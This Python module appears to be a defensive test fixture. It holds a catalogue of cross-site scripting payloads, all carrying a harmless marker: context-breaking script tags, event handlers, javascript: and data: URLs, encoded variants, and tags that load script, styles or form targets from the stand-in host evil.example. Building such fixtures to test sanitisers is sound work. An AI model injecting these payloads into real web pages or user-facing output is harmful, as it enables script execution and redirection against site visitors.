"""Markup that would run, load or lead elsewhere if a browser took it for more than a text; each bears the MARK.

`SCRIPT` sets what the census of a page looks for.
"""

MARK = "hostile7"

SCRIPT = f"window.{MARK}=1"
_TAGS = (
    f"<script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</select></option><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script><!--",
    f"]]><script>{SCRIPT}</script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img src=//evil.example/{MARK}.png>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><text>{MARK}</text></a></svg>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f"<body onload={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<audio src=x onerror={SCRIPT}>",
    f"<object data=javascript:{SCRIPT}></object>",
    f"<embed src=javascript:{SCRIPT}>",
    f"<a href=javascript:{SCRIPT}>{MARK}</a>",
    f"<form action=//evil.example/{MARK}><button>{MARK}</button></form>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}.css';</style>",
    f"<div style=background:url(//evil.example/{MARK})>",
    f"<math><mtext><script>{SCRIPT}</script></mtext></math>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<marquee onstart={SCRIPT}>",
    f"<button hx-get=//evil.example/{MARK} hx-trigger=load>{MARK}</button>",
    f"<p hx-on::load={SCRIPT}>",
)
MARKUP = tuple(before + tag for before in ("", '">', "'>", "甲") for tag in _TAGS)

ATTRIBUTES = (
    *(f"{quote} {event}={SCRIPT} x={quote}" for quote in ('"', "'", "`") for event in
      ("onmouseover", "onfocus", "onerror", "onclick", "onload", "style")),
    *(f"{scheme}:{SCRIPT}" for scheme in
      ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "vbscript", "data:text/html,")),
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZTc9MTwvc2NyaXB0Pg=={MARK}",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"%3Cscript%3E{SCRIPT}%3C/script%3E",
    f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
    f"＜script＞{SCRIPT}＜／script＞",
    f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-",
)  # fmt: skip
